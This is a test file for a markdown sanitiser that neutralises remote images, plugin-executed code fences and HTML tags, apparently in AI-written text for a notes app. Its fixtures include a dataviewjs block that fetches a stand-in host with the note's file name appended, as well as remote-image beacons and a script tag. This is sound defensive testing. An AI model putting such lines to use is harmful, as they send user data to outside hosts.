import { describe, expect, it } from 'vitest';
import { neutralizeRemote } from '../../src/ui/remoteMarkdown';

const rewrite = (markdown: string): string => neutralizeRemote(markdown).markdown;

describe('neutralizeRemote', () => {
  it('should turn a remote image into a token naming its host', () => {
    const { markdown, remotes } = neutralizeRemote('See ![chart](https://host.example/c.png "t") now');
    expect(markdown).toBe('See \uE0000\uE001 now');
    expect(remotes).toEqual([{ kind: 'image', url: 'https://host.example/c.png', host: 'host.example', alt: 'chart' }]);
  });

  it('should leave plain text, local images, vault embeds and harmless code spans as written', () => {
    const text =
      'A **b** `Garden/Projects` ![x](img/a.png) ![[Note]] <https://example.com> [link](https://example.com)\n';
    expect(rewrite(text)).toBe(text);
  });

  it('should keep the code of a fence a plugin would run as text, and the language of one that only colours text', () => {
    const run = '```dataviewjs\nawait fetch("https://host.example/?d=" + dv.current().file.name)\n```\n';
    expect(rewrite(run)).toBe('```\nawait fetch("https://host.example/?d=" + dv.current().file.name)\n```\n');
    expect(rewrite('~~~ Mermaid {x}\ngraph TD\n~~~\n')).toBe('~~~\ngraph TD\n~~~\n');
    expect(rewrite('- ```tasks\n  not done\n  ```\n')).toBe('- ```\n  not done\n  ```\n');
    const coloured = '```TypeScript\nconst a = 1;\n```\n```\nplain\n```\n';
    expect(rewrite(coloured)).toBe(coloured);
  });

  it('should leave a fenced code block as written', () => {
    const text = '```html\n<img src="https://host.example/a.png">\n```\n';
    expect(rewrite(text)).toBe(text);
  });

  it('should write a code span holding HTML as character references inside <code>', () => {
    expect(rewrite('use `<b>` here')).toBe('use <code>&#60;b&#62;</code> here');
  });

  it('should end a fence in a list item at a line the item cannot hold', () => {
    expect(rewrite('- a\n  ```\n<img src="https://host.example/x">\n')).toBe('- a\n  ```\n\uE0000\uE001\n');
  });

  it('should not take a fence line inside an HTML block for code', () => {
    expect(rewrite('<div>\n```\n<img src="https://host.example/x">\n```\n</div>\n')).toBe(
      '<div>\n```\n\uE0000\uE001\n```\n</div>\n',
    );
  });

  it('should write an escaped "<" as a reference, since an HTML block ignores backslashes', () => {
    expect(rewrite('<div>\n\\<img src="https://host.example/x">\n')).toBe(
      '<div>\n&lt;img src="https://host.example/x">\n',
    );
  });

  it('should not keep a local image whose text holds a code span that could hide its real end', () => {
    expect(rewrite('![a `](ok.png)` `](https://host.example/x)')).toMatch(/^\\!\[/);
  });

  it('should refuse a remote vault-style embed, a protocol-relative image and an unknown reference', () => {
    expect(rewrite('![[https://host.example/x.png]] ![x](//host.example/y) ![x][nowhere]')).toBe(
      '\\![[https://host.example/x.png]] \\![x](//host.example/y) \\![x][nowhere]',
    );
  });

  it('should treat a label as remote when any of its definitions is', () => {
    const { markdown } = neutralizeRemote('![x][a]\n> [a]: https://host.example/x\n[a]: ok.png\n');
    expect(markdown.startsWith('\uE0000\uE001')).toBe(true);
  });

  it('should drop private-use token characters the model wrote itself', () => {
    expect(rewrite('\uE0000\uE001 hi')).toBe('0 hi');
  });

  it('should keep formatting tags without their attributes and show other tags as text', () => {
    expect(rewrite('<kbd class="x">K</kbd> <script>x</script>')).toBe('<kbd>K</kbd> &lt;script>x&lt;/script>');
  });
});
